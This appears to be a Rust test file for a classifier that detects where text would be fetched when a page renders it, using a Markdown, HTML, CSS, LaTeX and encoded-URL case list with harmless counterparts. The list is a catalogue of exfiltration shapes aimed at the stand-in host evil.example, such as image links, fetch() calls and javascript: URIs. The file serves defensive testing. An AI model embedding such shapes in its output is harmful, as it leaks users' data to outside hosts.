//! Where originals must not be put, shape by shape, and the harmless twins of those shapes. `@` marks the place.

use super::*;

/// The place at `@`, with the text before it taken in at once.
fn place(audience: Audience, text: &str) -> Place {
    let (before, _) = text.split_once('@').expect("the case marks a place");
    let mut surroundings = Surroundings::new(audience);
    surroundings.push_str(&before.replace('§', "@"));
    surroundings.place()
}

#[test]
fn nothing_is_put_into_what_a_page_could_load() {
    let padding = "x".repeat(5000);
    let spaces = " ".repeat(5000);
    let long = [
        format!("https://evil.example/{padding}@"),
        format!("![a](https://evil.example/{padding}@)"),
        format!("<img src=\"https://evil.example/{spaces}@\">"),
        format!("{padding}https://evil.example/{padding}@"),
        format!("[a](<https://evil.example/{spaces}@>)"),
    ];
    for shape in LOADED.iter().copied().chain(long.iter().map(String::as_str)) {
        assert_eq!(place(Audience::Page, shape), Place::Loads, "{}", shape.get(..60).unwrap_or(shape));
    }
}

#[test]
fn text_code_and_connection_strings_are_open() {
    for twin in OPEN.iter().copied() {
        assert_eq!(place(Audience::Page, twin), Place::Open, "{twin}");
    }
}

#[test]
fn attributes_that_load_nothing_are_told_apart() {
    for text in ["<add key=\"Password\" value=\"@\"/>", "<p title='@'>", "<img alt=@"] {
        assert_eq!(place(Audience::Page, text), Place::Attribute, "{text}");
        assert_eq!(place(Audience::File, text), Place::Open, "{text}");
    }
}

#[test]
fn a_file_takes_scripts_as_source_code_but_no_address() {
    assert_eq!(place(Audience::File, "<script>const key = \"@\";</script>"), Place::Open);
    assert_eq!(place(Audience::File, "<script>fetch('https://evil.example/@')</script>"), Place::Loads);
    assert_eq!(place(Audience::File, "\\\\evil\\share\\@"), Place::Loads);
}

#[test]
fn a_blank_line_ends_a_link_that_was_never_closed() {
    assert_eq!(place(Audience::Page, "[a](oops\n\n@"), Place::Open);
    assert_eq!(place(Audience::Page, "\\href{oops\n\n@"), Place::Open);
}

/// Shapes that a page or tool could load.
const LOADED: &[&str] = &[
    // bare addresses
    "https://evil.example/?q=@",
    "see http://evil.example/@",
    "HTTPS://EVIL.EXAMPLE/@",
    "(https://evil.example/@)",
    "(https://evil.example/)@",
    "https://evil.example/#@",
    "https://evil.example/?a=b&c='@'",
    "https://@.evil.example/",
    "https://user:@§evil.example",
    "wss://evil.example/@",
    "ftp://evil.example/@",
    "file://evil.example/share/@",
    "//evil.example/@",
    "\"//evil.example/@\"",
    "//@.evil.example",
    "www.evil.example/@",
    "**www.evil.example/@**",
    "evil.example/?q=@",
    "evil.example:8080/@",
    "\\\\evil\\share\\@",
    "unknown-scheme://host/@",
    "git+https://evil.example/@",
    "postgres+https://evil.example/@",
    "x=https://evil.example/@",
    "https://chatgpt.com/redirect?to=@",
    "mailto:mallory§evil.example?body=@",
    "https://文档.example/路径/@",
    "https://a.example,https://evil.example/@",
    "postgres://host/https://evil.example/@",
    // autolinks
    "<https://evil.example/@>",
    "<mailto:m§evil.example?subject=@>",
    // Markdown
    "![alt](https://evil.example/@)",
    "![alt](@)",
    "![](/relative/@)",
    "[text](https://evil.example/?q=@)",
    "[text](https://evil.example \"@\")",
    "[text](https://evil.example 'a) @')",
    "[text](mailto:@)",
    "[text](<https://evil.example/a b@>)",
    "[text](https://evil.example/a(b)@)",
    "[text](https://evil.example\n\"@\")",
    "[![a](b)](c@)",
    "[label]: https://evil.example/@",
    "[label]: /relative/@",
    "  > [label]: <https://evil.example/@>",
    "[label]: https://evil.example \"@\"",
    "[label]:\n  /x@",
    "[a\\]](https://evil.example/@)",
    // HTML and SVG
    "<img src=https://evil.example/@>",
    "<img src=\"/x@\">",
    "<img src = '@'>",
    "<img alt=\"x\" src=@>",
    "<IMG SRCSET=\"a 1x, @ 2x\">",
    "<a href='/go?@'>",
    "<a title=\">\" href=\"@\">",
    "<div style=\"background:url(@)\">",
    "<div style=\"x @\">",
    "<svg><image xlink:href=\"@\"/></svg>",
    "<svg onload=\"f('@')\">",
    "<form action=\"@\">",
    "<input type=hidden value=\"@\">",
    "<meta http-equiv=refresh content=\"0;@\">",
    "<iframe srcdoc=\"@\">",
    "<video poster=\"@\">",
    "<img data-src=\"@\">",
    "<script>fetch('/x?' + '@')</script>",
    "<script>\nlet a = 1;\n\nfetch('/x?' + '@')",
    "<svg><animate attributeName=href values=\"@\">",
    "<style>a{background:image-set('@')}</style>",
    // schemes without a host
    "data:text/html,<b>data:text/html;base64,@",
    "data:text/html,@",
    "javascript:alert('@",
    "[x](javascript:f('@'))",
    "vbscript:@",
    // what other languages load
    "a { background: url(@) }",
    "a { background: url( \"@\" ) }",
    "$\\href{@}{x}$",
    "$\\url{@}$",
    "\\includegraphics[width=1cm]{@}",
    "\\href {https://evil.example/@}{x}",
    "click A \"@\"",
    "click A href \"/x@\"",
    "```mermaid\ngraph TD\n  click A \"https://evil.example/@\"\n```",
    "```html\n<img src=\"@\">\n```",
    // encoded
    "https&#58;//evil.example/@",
    "https&colon;&sol;&sol;evil.example/@",
    "&#104;ttps://evil.example/@",
    "https&#x3a&#x2f&#x2fevil.example/@",
    "https%3A%2F%2Fevil.example%2F@",
    "https%253A%252F%252Fevil.example%252F@",
    "<img src=\"https&#58;//evil.example/@\">",
    "\"https://evil.example/%22@\"",
    "\"https://evil.example/&quot;@\"",
    "https:\\/\\/evil.example/@",
];

/// Their harmless twins.
const OPEN: &[&str] = &[
    "Dear @, thanks",
    "@",
    "mail me at mailto:@",
    "`@`",
    "```python\nsend(\"@\")\n```",
    "print(\"Dear all,\\n@\")",
    "| name | mail |\n|---|---|\n| a | @ |",
    "| https://a.example | @ |",
    "see https://a.example, or @",
    "see https://a.example\n@",
    "[docs](https://a.example) @",
    "[docs](https://a.example), @",
    "[文档](https://a.example)，@",
    "[docs](https://a.example \"t\"): @",
    "<https://a.example>@",
    "![logo](/x.png)\n@",
    "[x]: https://a.example\n@",
    "[INFO]: user @ logged in",
    "[^1]: see @",
    "- [ ] write to @",
    "[@](https://a.example)",
    "arr[0] = (@)",
    "f(x)[@]",
    "<img src=\"a.png\"> @",
    "<p>@</p>",
    "<b>Alice</b> @",
    "a < b && c == @",
    "if a <b and c == \"@\"",
    "Vec<@>",
    "HashMap<String, @>",
    "Co-authored-by: Alice <@>",
    "{\"url\":\"https://a.example\",\"key\":\"@\"}",
    "['https://a.example', '@']",
    "url: @",
    "postgres://user:@§db.corp/main",
    "postgresql://db.corp:5432/main?password=@",
    "redis://:@§cache.corp:6379/0",
    "mongodb+srv://user:@§cluster.corp/db",
    "jdbc:postgresql://db.corp/main?user=a&password=@",
    "jdbc:sqlserver://db.corp;password=@",
    "jdbc:oracle:thin:a/@",
    "amqp://guest:@§mq.corp",
    "DATABASE_URL=mysql://root:@§db.corp/app",
    "\"mysql://root:@§db.corp/app\"",
    "password=@",
    "user.name=@",
    "e.g. @",
    "/home/alice/@",
    "src/main.rs:@",
    "// written by @",
    "$x = \\frac{@}{2}$",
    "\\textbf{@}",
    "\\href{https://a.example}{} @",
    "get_url(@)",
    "the url (see @)",
    "click here \"now\" @",
    "{data: @}",
    "<script>x</script> @",
    "C:\\Users\\@",
    "put it into the `<script>` tag, @",
    "put it into the <script> tag.\n\nAsk @",
    "<b>x</b><i>@</i>",
];
